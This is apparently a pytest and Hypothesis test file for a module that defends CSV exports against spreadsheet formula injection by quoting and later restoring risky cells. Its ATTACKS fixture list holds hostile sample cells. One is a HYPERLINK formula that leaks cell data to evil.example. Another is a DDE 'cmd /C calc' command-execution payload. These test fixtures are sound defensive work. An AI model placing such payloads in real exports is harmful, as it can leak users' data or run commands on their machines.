"""servicekit.csvsafe: no cell of the platform's CSV starts a spreadsheet formula, and the
quote it adds comes off again on import, exactly."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from servicekit.csvsafe import FORMULA_START, DictWriter, neutralise, restore

ATTACKS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\0=1",
]


@pytest.mark.parametrize("value", ATTACKS)
def test_formula_cells_get_a_quote_and_lose_it_again(value: str) -> None:
    assert neutralise(value) == "'" + value
    assert restore(neutralise(value)) == value


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("Report graffiti", "Report graffiti"),
        ("", ""),
        ("'quoted'", "'quoted'"),
        ("'=already", "''=already"),
        ("''+twice", "'''+twice"),
        ("a=b", "a=b"),
        ("01908 252570", "01908 252570"),
        (3, 3),
        (None, None),
        (-2, -2),
    ],
)
def test_other_cells_as_they_are_and_quotes_kept_apart(value: object, written: object) -> None:
    assert neutralise(value) == written
    if isinstance(value, str):
        assert restore(neutralise(value)) == value


def test_a_hand_written_plain_cell_is_not_changed_on_import() -> None:
    assert restore("'quoted'") == "'quoted'" and restore("O'Brien") == "O'Brien"
    assert restore("=1+1") == "=1+1"  # not ours to change: the import validates it


@given(st.text())
def test_restore_undoes_neutralise_for_every_text(value: str) -> None:
    assert restore(neutralise(value)) == value
    assert str(neutralise(value))[:1] not in FORMULA_START


def test_dict_writer_neutralises_and_quotes_every_cell() -> None:
    out = io.StringIO()
    writer = DictWriter(out, fieldnames=["name", "count"], lineterminator="\n")
    writer.writeheader()
    writer.writerow({"name": ATTACKS[0], "count": 3})
    writer.writerows([{"name": "ok;=X", "count": -1}])
    assert out.getvalue().splitlines() == [
        '"name","count"',
        '"\'=HYPERLINK(""https://evil.example/?""&A1,""Open"")","3"',
        '"ok;=X","-1"',
    ]
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [restore(r["name"]) for r in rows] == [ATTACKS[0], "ok;=X"]
